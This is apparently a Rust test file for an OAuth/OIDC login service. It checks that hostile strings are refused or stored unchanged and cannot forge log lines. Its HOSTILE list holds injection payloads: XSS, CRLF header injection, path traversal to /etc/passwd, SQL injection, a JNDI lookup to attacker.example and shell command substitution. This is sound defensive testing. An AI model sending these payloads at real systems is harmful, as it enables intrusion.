//! Hostile strings, followed through calls, records, events and logs: a refused string leaves no trace, and an
//! accepted one is kept unchanged in its own field.

use std::collections::BTreeSet;

use lychgate_api::v1;
use lychgate_engine::Space;
use url::Url;

use crate::support::{
    App, ControlPlane, Environment, Failure, Flow, Log, Refused as _, claims, code_in, contains, location, query,
};

/// Each tries to break out of a context that quotes it.
const HOSTILE: [&str; 22] = [
    "\"'><script>alert(1)</script>",
    "x\r\nSet-Cookie: __Host-lychgate-browser-x=y",
    "x\n2026-01-01T00:00:00.000000Z  INFO lychgate_control: forged",
    "\u{1b}[2K\u{1b}[1Aoverwritten",
    "before\0after",
    "\u{202E}gpj.exe\u{2066}\u{2069}",
    "zero\u{200B}width\u{FEFF}joined\u{200D}",
    "line\u{2028}and\u{2029}page\u{85}",
    "𝕬🦀\u{1F468}\u{200D}\u{1F469}\u{10FFFD}",
    "%zz%",
    "%00%0d%0aX: y",
    "%",
    "../../../../etc/passwd",
    "..%2f..%2f\\..\\",
    "{{this}}{{{title}}}{{> layout}}",
    "'; DROP TABLE grants; --",
    "\",\"admin\":true,\"x\":\"",
    "${jndi:ldap://attacker.example/x} $(id) `id`",
    "javascript:alert(1)//",
    "idp|alice",
    "&code=lgc_forged&iss=https://attacker.example#",
    " ",
];

/// Longer than any legitimate value.
fn long() -> String {
    "\u{1F980}<\"%".repeat(300)
}

fn hostile() -> impl Iterator<Item = String> {
    HOSTILE.map(str::to_owned).into_iter().chain([long()])
}

/// A control plane and its log.
async fn logged(env: &Environment) -> (ControlPlane, Log) {
    let log = Log::default();
    let (engine, clock) = (env.engine.open(), env.clock.clone());
    (ControlPlane::start_on(&mut log.runtime(), env.config.clone(), engine, clock).await.unwrap(), log)
}

/// `state` belongs to the client: it is returned byte for byte, or the request is refused.
///
/// Requirements: R11.
#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_state_is_returned_exactly_and_stored_in_its_record_only() {
    for state in hostile() {
        let env = Environment::new().await;
        let (control, log) = logged(&env).await;
        let edge = control.edge();
        let mut flow = Flow::new(App::configured());
        flow.person = "bob".to_owned();
        flow.state.clone_from(&state);
        let callback = flow.sign_in(&edge, &env.idp).await;
        let next = edge.finish_login(callback).await.unwrap();
        let answer = location(&next);
        assert!(answer.bytes().all(|byte| byte.is_ascii_graphic()), "{answer:?}");
        assert!(answer.starts_with("https://app.example/cb?code=lgc_"), "{answer}");
        let names: Vec<_> = Url::parse(answer).unwrap().query_pairs().map(|(n, _)| n.into_owned()).collect();
        assert_eq!(names, ["code", "state", "iss"], "{state:?} adds nothing to the answer");
        let answer = query(answer);
        assert_eq!(answer["state"], state);
        edge.exchange(flow.redeem(&answer["code"])).await.unwrap();
        control.stop().await;
        assert_in_place(&env, &state, &[Space::Authorizations]).await;
        assert_whole_lines(&log, &state);
    }
}

/// A subject is printable ASCII of at most 255 characters (OIDC Core §2).
#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_subject_is_refused_or_kept_exactly() {
    let fits = |subject: &str| subject.len() <= 255 && subject.bytes().all(|byte| matches!(byte, b' '..=b'~'));
    for subject in hostile() {
        let env = Environment::new().await;
        let (control, log) = logged(&env).await;
        let edge = control.edge();
        let mut flow = Flow::new(App::configured());
        flow.person.clone_from(&subject);
        let callback = flow.sign_in(&edge, &env.idp).await;
        let next = edge.finish_login(callback).await.unwrap();
        if fits(&subject) {
            let tokens = edge.exchange(flow.redeem(&code_in(&next))).await.unwrap();
            assert_eq!(claims(&tokens.access_token)["sub"], format!("idp|{subject}"));
            let spaces = [Space::Authorizations, Space::Consents, Space::Grants, Space::Connections];
            assert_in_place(&env, &subject, &spaces).await;
            assert!(env.events().await.iter().all(|event| contains(event, subject.as_bytes())), "{subject:?}");
        } else {
            let Some(v1::next::Step::FailurePage(page)) = next.step else { panic!("{subject:?}: {next:?}") };
            assert_eq!(page.reason, "UPSTREAM_INVALID", "{subject:?}");
            assert!(!page.return_uri.contains("code="), "{}", page.return_uri);
            assert_eq!((env.entries(Space::Consents).await.len(), env.events().await.len()), (0, 0));
            assert_in_place(&env, &subject, &[]).await;
        }
        control.stop().await;
        assert_whole_lines(&log, &subject);
    }
}

/// An upstream subject that contains the separator is a subject of its own.
#[tokio::test(flavor = "multi_thread")]
async fn subjects_that_look_alike_are_different_people() {
    let env = Environment::new().await;
    let control = env.start().await;
    let people = ["alice", "idp|alice", "|alice", "alice ", "Alice", "alice|", "alice%00", "\\u0061lice"];
    for person in people {
        let mut flow = Flow::new(App::configured());
        flow.person = person.to_owned();
        flow.tokens(&control.edge(), &env.idp).await;
    }
    assert_eq!(env.entries(Space::Consents).await.len(), people.len());
}

/// A client's name is stored without invisible characters, like every other text of a registration, and the page shows a
/// part of it or nothing.
///
/// Requirements: B5.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_metadata_is_stored_without_invisible_characters_or_refused() {
    for text in hostile() {
        let env = Environment::new().await;
        let (control, log) = logged(&env).await;
        let edge = control.edge();
        let mut registration = App::registration("none");
        let metadata = registration.metadata.as_mut().unwrap();
        metadata.client_name = Some(text.clone());
        metadata.grant_types.push(text.clone());
        metadata.application_type = Some(text.clone());
        if text.len() <= 256 {
            metadata.contacts = vec![text.clone()];
            metadata.software_id = Some(text.clone());
            metadata.scope = Some(text.clone());
        }
        let client = edge.register(registration).await.unwrap();
        let kept = client.metadata.unwrap();
        let name = kept.client_name.clone().unwrap_or_default();
        assert!(name.chars().count() <= 128, "{name:?}");
        assert_eq!(name.is_empty(), text.trim().is_empty(), "{text:?}");
        for shown in kept.contacts.iter().chain([&name]).chain(&kept.software_id).chain(&kept.scope) {
            assert!(!shown.chars().any(hides), "{shown:?}");
        }
        assert_eq!((kept.grant_types.len(), kept.application_type), (2, None));

        let mut flow = Flow::new(App::new(&client.client_id, "http://127.0.0.1:7777/cb"));
        flow.person = "bob".to_owned();
        let page = flow.consent_page(&edge).await;
        let client = page.client.unwrap();
        assert!(client.name.chars().count() <= 40 && !client.name.chars().any(hides), "{:?}", client.name);
        assert_eq!(client.name_withheld, client.name.is_empty() && !name.is_empty(), "{name:?}");
        flow.tokens(&edge, &env.idp).await;
        control.stop().await;
        assert_in_place(&env, &name, &[Space::Clients]).await;
        assert_whole_lines(&log, &text);
    }
}

/// A reference to something that does not exist is refused and writes nothing; the log quotes it harmlessly.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_references_are_refused_and_leave_nothing() {
    let env = Environment::new().await;
    let (control, log) = logged(&env).await;
    let edge = control.edge();
    let flow = Flow::new(App::configured());
    let before = env.record_counts().await;
    for text in hostile() {
        for (name, expected) in [
            ("client_id", "CLIENT_UNKNOWN"),
            ("redirect_uri", "REDIRECT_URI_UNREGISTERED"),
            ("resource", "invalid_target"),
            // A space is no scope, so the default applies.
            ("scope", if text == " " { "a ticket" } else { "invalid_scope" }),
            ("code_challenge", "invalid_request"),
            ("code_challenge_method", "invalid_request"),
            ("response_type", "unsupported_response_type"),
            ("response_mode", "invalid_request"),
            ("ui_locales", "a ticket"),
        ] {
            let mut request = flow.begin();
            request.parameters.retain(|parameter| parameter.name != name);
            request.parameters.push(v1::Parameter { name: name.to_owned(), value: text.clone() });
            assert_answered(edge.begin(request).await, name, &text, expected);
        }
        let mut strange = flow.begin();
        strange.parameters.push(v1::Parameter { name: text.clone(), value: text.clone() });
        assert_answered(edge.begin(strange).await, "a parameter's name", &text, "a ticket");
        let elsewhere = v1::BeginRequest { issuer_id: text.clone(), ..flow.begin() };
        assert_eq!(edge.begin(elsewhere).await.reason(), "ISSUER_UNKNOWN");
        assert_eq!(edge.show(flow.show(&text)).await.reason(), "TICKET_INVALID");
        let callback = [("code", "c"), ("state", &text), ("iss", &text)];
        let callback = callback.map(|(n, v)| v1::Parameter { name: n.to_owned(), value: v.to_owned() });
        assert_eq!(edge.finish_login(flow.finish_login(callback.to_vec())).await.reason(), "STATE_INVALID");
        assert_eq!(edge.exchange(flow.redeem(&text)).await.reason(), "CODE_INVALID");
        assert_eq!(edge.exchange(flow.refresh(&text)).await.reason(), "REFRESH_TOKEN_INVALID");
        let mut stranger = flow.redeem("lgc_x");
        stranger.client.as_mut().unwrap().client_id = Some(text.clone());
        assert_eq!(edge.exchange(stranger).await.reason(), "CLIENT_UNKNOWN");
        let mut registration = App::registration("none");
        registration.metadata.as_mut().unwrap().redirect_uris = vec![format!("https://app.example/{text}#")];
        assert_eq!(edge.register(registration).await.reason(), "REGISTRATION_REDIRECT_URI_INVALID");
    }
    assert_eq!(env.record_counts().await, before);
    control.stop().await;
    for text in hostile() {
        assert_whole_lines(&log, &text);
    }
}

/// Foreign cookies, under our names and others, beside the valid ones do not affect the flow.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_cookies_beside_the_good_ones_change_nothing() {
    let env = Environment::new().await;
    let control = env.start().await;
    let edge = control.edge();
    for text in hostile() {
        let mut flow = Flow::new(App::configured());
        flow.browser.0.insert(text.clone(), text.clone());
        flow.browser.0.insert(format!("__Host-lychgate-login-{text}"), text.clone());
        flow.browser.0.insert("__Host-lychgate-".to_owned(), text);
        flow.tokens(&edge, &env.idp).await;
    }
}

#[track_caller]
fn assert_answered(outcome: Result<v1::Next, Failure>, name: &str, text: &str, expected: &str) {
    let (answer, said) = match outcome {
        Err(failure) => (failure.reason, format!("{:?}", failure.metadata)),
        Ok(next) => {
            let location = location(&next);
            assert!(location.bytes().all(|byte| byte.is_ascii_graphic()), "{location:?}");
            let said = query(location);
            (said.get("error").map_or("a ticket", String::as_str).to_owned(), format!("{said:?}"))
        }
    };
    assert_eq!(answer, expected, "{name}={text:?}: {said}");
    // A shorter text may occur by chance.
    assert!(text.len() < 6 || !said.contains(text), "{name}={text:?} is repeated: {said}");
}

/// Asserts that every key has the width of its kind and that only values in `spaces` contain `text`, unchanged.
async fn assert_in_place(env: &Environment, text: &str, spaces: &[Space]) {
    for space in Space::ALL {
        let entries = env.entries(space).await;
        let widths: &[usize] = match space {
            Space::Meta => &[b"store".len(), b"keyring/".len() + 16, b"configuration/".len() + 16],
            Space::Clients | Space::Authorizations | Space::Grants => &[32],
            Space::Consents => &[64],
            Space::Counters | Space::Requests | Space::UpstreamRevocations => &[],
            Space::Connections => &[32],
            Space::Assertions => &[48],
            Space::Digests => &[24],
        };
        for (key, entry) in &entries {
            assert!(widths.contains(&key.bytes.len()), "{text:?} changed the width of {key:?}");
            // A shorter text may occur by chance.
            assert!(text.len() < 6 || !contains(&key.bytes, text.as_bytes()), "{text:?} stands in {key:?}");
            let is_there = contains(&entry.value, text.as_bytes());
            assert!(text.len() < 6 || is_there == spaces.contains(&space), "{text:?} in {}: {is_there}", space.name());
        }
        assert!(!spaces.contains(&space) || !entries.is_empty());
    }
}

/// Asserts that each line of the log starts with a time, a level and a module: no text forged or broke a line.
#[track_caller]
fn assert_whole_lines(log: &Log, text: &str) {
    let log = String::from_utf8(log.read()).unwrap();
    assert!(log.contains("called"), "the log is captured");
    let levels = BTreeSet::from(["ERROR", "WARN", "INFO", "DEBUG", "TRACE"]);
    for line in log.split_terminator('\n') {
        let mut words = line.split_whitespace();
        let time = words.next().unwrap_or_default();
        let begins = time.len() == "2026-01-01T00:00:00.000000Z".len() && time.ends_with('Z');
        assert!(begins && levels.contains(words.next().unwrap_or_default()), "{text:?} broke a line: {line:?}");
        assert!(!line.chars().any(|c| c.is_control() || hides(c)), "{text:?} in {line:?}");
    }
    assert!(!log.contains("lychgate_control: forged"), "{text:?} forged a line");
}

/// Characters that hide or reorder the text beside them.
fn hides(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}' | '\u{2060}'..='\u{206F}' | '\u{FEFF}')
}
